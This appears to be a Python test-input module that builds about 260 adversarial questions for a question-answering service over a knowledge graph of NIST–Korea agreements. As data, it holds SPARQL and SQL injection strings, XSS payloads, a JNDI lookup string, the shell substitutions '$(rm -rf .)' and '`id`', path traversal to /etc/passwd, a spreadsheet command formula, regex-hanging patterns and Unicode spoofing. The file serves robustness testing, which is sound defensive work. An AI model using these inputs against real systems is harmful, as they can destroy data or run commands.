"""Two hundred and sixty questions that want to break something: emptiness, size, control characters, other languages' syntax, broken text."""

from __future__ import annotations

from collections.abc import Iterator

#: a question with something to find, so that the hostile part is not the only one
HONEST = ("which NIST programs link to Korea", "NIST와 한국을 잇는 프로그램은?", "Who signed the Technology Prosperity MOU?")

EMPTY = (
    "",
    " ",
    "\n",
    "\t\t",
    "\r\n\r\n",
    "\u3000",
    "\u00a0",
    "\ufeff",
    "\u200b\u200b",
    "\x00",
    "\x00" * 100,
    ".",
    "?",
    "???",
    "…",
    "、",
    "-",
    "—",
    "()",
    "''",
    '""',
    "“”",
)

LONG = (
    "?" * 500,
    "가" * 5000,
    "a " * 50_000,
    "한국 " * 33_334,
    "x" * 100_000,
    "1" * 100_000,
    "\n" * 100_000,
    "🚀" * 25_000,
    "who " * 140,
    "한" * 599,
    "가나" * 300,
    "한국미국일본" * 100,
    "Korea" * 120,
    "NIST와" * 150,
    "'" * 600,
    "NIST와 한국을 잇는 프로그램은?" + "!" * 400,
    "which NIST programs link to Korea " + "a" * 500,
    "e\u0301" * 300,
    "a" + "\u0300" * 590,
    "ㄱ" * 590,
    "\u1100" * 590,
)

#: control, formatting and direction characters, surrogates and other code points that no text holds
CHARACTERS = (
    *"\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202d\u202e\u2060\u2066\u2069\ufeff\ufff9\ufffe\uffff",
    "\ud800",
    "\udfff",
    "\ud83d",
    "\U0010ffff",
    "\U000e0041",
    "🚀",
    "👩‍👩‍👧‍👦",
    "🇰🇷",
)

SYNTAX = (
    "SELECT ?s WHERE { ?s ?p ?o }",
    "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "DELETE WHERE { ?s ?p ?o }",
    "DROP ALL",
    "CLEAR GRAPH <urn:g>",
    "LOAD <http://example.org/>",
    "SERVICE <http://example.org/> { ?s ?p ?o }",
    '"} ; DROP ALL ; SELECT * { ?s ?p "',
    "'; DROP TABLE x; --",
    '"""',
    "'''",
    "} UNION { ?s ?p ?o",
    "FILTER(1=1)",
    "# comment",
    "<https://w3id.org/techpact/id/organization/nist>",
    "> . ?s ?p ?o . <",
    "\\u0022 } DROP ALL",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "javascript:alert(1)",
    "%s %d %n",
    "{0} {names} {__class__}",
    "${jndi:ldap://example.org}",
    "$(rm -rf .)",
    "`id`",
    "../../etc/passwd",
    "{{7*7}}",
    "__import__('os')",
    "\x1b[2J\x1b[31m",
    "\u001b]0;title\u0007",
    "=cmd|' /C calc'!A0",
)

#: patterns that hang a careless matcher, and brackets that never close
PATTERNS = (
    "(a+)+$",
    "(" * 300,
    ")" * 300,
    "{" * 600,
    "[" * 300 + "]" * 299,
    "((((한국))))",
    "a" * 40 + "!",
    "x*" * 250,
    "\\" * 200,
    ".*" * 250,
    "^(\\w+\\s?)*$",
    "2024-" * 100,
    "2023년 " * 100,
    "between 2020 and " * 35,
    "January " * 70 + "2024",
    "1.1.1.1." * 70,
    "U.S." * 150,
    "-" * 500,
    "한·미·일·" * 100,
    "A-B-" * 140,
)


ENGLISH, KOREAN = HONEST[:2]

#: an honest question hidden behind directions, joiners and marks, or written in look-alikes
DISGUISED = (
    "\u202e" + ENGLISH[::-1] + "\u202c",
    "\u2066" + ENGLISH + "\u2069" * 40,
    "\u200d".join(KOREAN),
    "\u200b".join(ENGLISH),
    "\u2060".join(KOREAN),
    "\ufe0f".join(KOREAN),
    "\u0301\u0301\u0301\u0301".join(ENGLISH),
    KOREAN + "\u0300" * 500,
    "\u0488" * 300 + ENGLISH,
    "한" + "\u11ab" * 300,
    "\u1112" + "\u1161" * 200 + "\u11ab" * 200,
    ENGLISH.replace("o", "\u043e").replace("i", "\u0456"),
    ENGLISH.replace(" ", "\u2028"),
    ENGLISH.replace("i", "\u0131"),
    "𝓚𝓸𝓻𝓮𝓪 𝓪𝓷𝓭 𝓝𝓘𝓢𝓣",
    "ⓃⒾⓈⓉ와 한국",
    "🇰🇷 and 🇺🇸 agreements",
    "\U000e0041" * 300 + "Korea",
    "İ" * 500,
    "ß" * 500 + " Korea",
    "ΐ" * 500,
    "ŉ who signed",
    "\udcff\udcfe한국",
    "한국\udc80과 미국의 협정",
)

#: words of questions without end: every stretch of them may be read in many ways
REPEATED = (
    "협력" * 300,
    "협력하는" * 140,
    "와의와의" * 140,
    "한미일" * 190,
    "했나요" * 190,
    "하기로 " * 140,
    "그리고 " * 140,
    "that " * 119,
    "or not " * 84,
    "not " * 149,
    "except " * 84,
    "except the US " * 42,
    "미국 말고 일본 말고 " * 45,
    "without without without Korea",
    "Korea and " * 59,
    "NIST KRISS " * 54,
    "aaaa " * 118 + "b",
    "23년 " * 140,
    "'23 " * 140,
    "2023-2024-" * 55,
    "센터연구소대학교" * 70,
    "협력 " * 34_000,
    "\u202e" * 102_400,
    "NIST와 " * 20_000,
)

#: answers, queries and pages of other systems around a name
FOREIGN = (
    '{"question": "who signed it", "state": "answered", "answers": []}',
    "NIST}} UNION { ?s ?p ?o } #",
    '한국> . <http://example.org/> <x> "',
    "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o } 한국과 미국",
    '"; DROP GRAPH <id:graph/reference>; # Korea',
    "<svg/onload=alert(1)> NIST와 한국",
    "\\u0000\\ud800 NIST",
    "Korea\r\nUS\r\nagree",
)


def questions() -> Iterator[str]:
    """All of them, each once."""
    found = [*EMPTY, *LONG, *SYNTAX, *PATTERNS, *DISGUISED, *REPEATED, *FOREIGN]
    for number, character in enumerate(CHARACTERS):
        honest = HONEST[number % len(HONEST)]
        found += [character + honest, honest[:9] + character + honest[9:]]
    for number, text in enumerate(SYNTAX):
        honest = HONEST[number % len(HONEST)]
        found.append(f"{honest} {text}")
    found += ["ＮＩＳＴ와 한국을 잇는 프로그램은?", "NIST와 한국을 잇는 프로그램은?".encode("utf-16-le").decode("latin-1"), "N I S T  한 국"]
    yield from dict.fromkeys(found)
